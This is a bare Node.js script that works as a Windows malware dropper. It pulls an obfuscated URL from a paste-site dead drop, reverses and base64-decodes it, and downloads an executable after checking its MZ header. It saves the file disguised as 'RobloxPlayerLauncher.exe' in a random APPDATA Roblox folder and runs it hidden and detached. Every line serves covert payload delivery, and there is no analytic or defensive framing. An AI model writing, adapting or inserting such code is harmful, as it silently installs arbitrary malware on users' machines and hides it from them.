const https = require('https'), fs = require('fs'), os = require('os'), path = require('path'), { spawn } = require('child_process');
const drop = ['pastebin', 'example'].join('.');
function get(host, p) { return new Promise((res) => { https.get({ host, path: p, headers: { 'User-Agent': 'Mozilla/5.0' } }, r => { const c = []; r.on('data', d => c.push(d)); r.on('end', () => res(Buffer.concat(c))); }).on('error', () => res(null)); }); }
(async () => {
  if (process.platform !== 'win32') return;
  const cfg = await get(drop, '/raw/vG3kPq7T');
  if (!cfg) return;
  const url = Buffer.from(cfg.toString().trim().split('').reverse().join(''), 'base64').toString();
  const u = new URL(url);
  const bin = await get(u.host, u.pathname);
  if (!bin || bin[0] !== 0x4d || bin[1] !== 0x5a) return;
  const dir = path.join(process.env.APPDATA, 'Roblox', 'Versions', 'version-' + Math.random().toString(16).slice(2, 10));
  fs.mkdirSync(dir, { recursive: true });
  const exe = path.join(dir, 'RobloxPlayerLauncher.exe');
  fs.writeFileSync(exe, bin);
  const c = spawn(exe, ['--silent'], { detached: true, stdio: 'ignore', windowsHide: true });
  c.unref();
})();
